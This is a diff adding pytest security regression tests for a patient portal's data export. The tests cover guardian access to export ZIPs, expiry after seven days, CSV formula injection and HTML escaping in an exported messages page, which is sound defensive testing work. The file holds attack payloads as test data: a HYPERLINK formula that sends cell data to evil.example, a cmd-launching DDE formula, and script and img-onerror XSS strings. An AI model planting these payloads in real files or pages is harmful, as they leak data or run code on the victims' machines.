@@ -1,0 +1,144 @@
+"""Hostile tries against issue 17's new doors: the data export (another requester's ZIP, a ZIP
+past its 7 days, formulas in the CSV files, markup in the messages page) and the activation
+codes (a new code asked again and again). Each test names the hole it closes."""
+import csv
+import io
+import json
+import zipfile
+from datetime import timedelta, timezone
+
+import pytest
+import time_machine
+from conftest import account, hidden_fields, journal, open_space, outbox
+
+pytestmark = pytest.mark.db
+
+
+def ask_export(client):
+    page = client.get("/mes-donnees/")
+    assert page.status_code == 200
+    return client.post("/mes-donnees/demander", data=hidden_fields(page))
+
+
+def last_export(person_id):
+    from portal.export.models import ExportJob
+    return ExportJob.select().where(ExportJob.patient == person_id).order_by(
+        ExportJob.id.desc()).first()
+
+
+def unzip(response):
+    assert response.status_code == 200, response.status_code
+    return zipfile.ZipFile(io.BytesIO(response.data))
+
+
+@pytest.fixture
+def amina_under_tutelle(ctx, person):
+    """Amina (an adult with her own account) under Camille's tutelle: two accounts reach her
+    space with the "export" scope, and see different things in it."""
+    from portal.accounts.models import utcnow
+    from portal.proxies.models import Guardianship
+    Guardianship.create(guardian=person("Camille"), ward=person("Amina"), kind="tutelle",
+                        accepted_at=utcnow())
+    return person("Amina")
+
+
+def test_a_representative_cannot_take_the_zip_the_holder_built_for_herself(
+        app, login_as, amina_under_tutelle):
+    """Hole: downloads were scoped to the space only, so Camille (tutelle) could fetch, by its
+    id, the ZIP Amina built for herself, which holds the documents hidden from legal
+    representatives; and her page offered it as hers."""
+    from portal.documents.models import Document
+    amina = amina_under_tutelle
+    secret = Document.select().where(Document.patient == amina.id).first()
+    Document.update(hidden_from_guardians=True).where(Document.id == secret.id).execute()
+    holder = login_as("amina")
+    assert ask_export(holder).status_code == 303
+    job = last_export(amina.id)
+    assert job.status == "done", job.error
+    own = unzip(holder.get(f"/mes-donnees/{job.id}/fichier"))
+    assert any(f"-{secret.id:05d}-" in name for name in own.namelist())
+
+    tutor = login_as("camille")
+    assert open_space(tutor, amina.id).status_code == 302
+    assert tutor.get(f"/mes-donnees/{job.id}/fichier").status_code == 404
+    page = tutor.get("/mes-donnees/").get_data(as_text=True)
+    assert f"/mes-donnees/{job.id}/fichier" not in page
+    # Her own export of Amina's space (the next day) leaves the hidden document out.
+    from portal.export.models import ExportJob
+    ExportJob.update(created_at=job.created_at - timedelta(days=2)).execute()
+    assert ask_export(tutor).status_code == 303
+    hers = last_export(amina.id)
+    assert hers.requested_by_id == account("camille").id and hers.status == "done"
+    names = unzip(tutor.get(f"/mes-donnees/{hers.id}/fichier")).namelist()
+    assert not any(f"-{secret.id:05d}-" in name for name in names)
+    # …and Amina cannot take the copy made for her tutor either (it is the tutor's).
+    assert holder.get(f"/mes-donnees/{hers.id}/fichier").status_code == 404
+
+
+def test_a_zip_past_its_seven_days_is_refused_even_before_the_purge_runs(app, login_as, person):
+    """Hole: the download checked only the status, so between the 7th day and the hourly
+    purge (or for as long as the purge was down) the expired ZIP still came out."""
+    from portal.export.models import ExportJob
+    client = login_as("camille")
+    assert ask_export(client).status_code == 303
+    job = last_export(person("Camille").id)
+    expires = job.expires_at.replace(tzinfo=timezone.utc)
+    with time_machine.travel(expires + timedelta(minutes=1), tick=False):
+        client = login_as("camille")
+        refused = client.get(f"/mes-donnees/{job.id}/fichier")
+        assert refused.status_code == 303
+        assert "n’est plus disponible" in client.get("/mes-donnees/").get_data(as_text=True)
+    assert ExportJob.get_by_id(job.id).status == "done"  # the purge did not run
+    assert not journal("export.download", object_id=str(job.id))
+
+
+FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|'/c calc'!A0", "\t@SUM(1)")
+
+
+def test_no_csv_cell_of_the_export_is_a_formula(app, login_as, person):
+    """Hole: names and titles typed by people went into the CSV files as they were, so a
+    document titled "=HYPERLINK(…)" became a live formula in the spreadsheet that opens the
+    journal (CSV injection)."""
+    from portal.accounts.models import Person
+    from portal.documents.models import Document
+    camille = person("Camille")
+    Person.update(given_names="-2+3").where(Person.id == camille.id).execute()  # "Qui"
+    titled = list(Document.select().where(Document.patient == camille.id).limit(len(FORMULAS)))
+    assert len(titled) == len(FORMULAS)
+    for document, formula in zip(titled, FORMULAS):
+        Document.update(title=formula).where(Document.id == document.id).execute()
+    client = login_as("camille")
+    for document in titled:  # the journal then names each title
+        assert client.get(f"/dossier/documents/{document.id}").status_code == 200
+    assert ask_export(client).status_code == 303
+    archive = unzip(client.get(f"/mes-donnees/{last_export(camille.id).id}/fichier"))
+    cells = []
+    for name in ("journal/historique.csv", "mesures/mesures.csv"):
+        data = archive.read(name).decode("utf-8-sig")
+        cells += [cell for row in csv.reader(io.StringIO(data), delimiter=";") for cell in row]
+    journal_text = archive.read("journal/historique.csv").decode("utf-8-sig")
+    assert "HYPERLINK" in journal_text  # the titles are there…
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not dangerous, dangerous  # …never as a formula
+    assert "'=HYPERLINK" in journal_text
+
+
+def test_a_message_with_markup_is_text_in_the_messages_page(app, login_as, person):
+    """A message body, subject or author holding <script> stays text in messages.html."""
+    from portal.messaging.models import Conversation, Message
+    camille = person("Camille")
+    conversation = Conversation.select().where(Conversation.patient == camille.id).first()
+    Conversation.update(subject="<script>alert('s')</script>").where(
+        Conversation.id == conversation.id).execute()
+    message = Message.select().where(Message.conversation == conversation.id).first()
+    Message.update(body="<img src=x onerror=alert(1)>\n<script>alert(2)</script>").where(
+        Message.id == message.id).execute()
+    client = login_as("camille")
+    assert ask_export(client).status_code == 303
+    archive = unzip(client.get(f"/mes-donnees/{last_export(camille.id).id}/fichier"))
+    page = archive.read("messages/messages.html").decode()
+    assert "<script" not in page and "<img" not in page
+    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page
+    texts = [m["text"] for c in json.loads(archive.read("messages/messages.json"))[
+        "conversations"] for m in c["messages"]]
+    assert "<img src=x onerror=alert(1)>\n<script>alert(2)</script>" in texts  # JSON: as typed
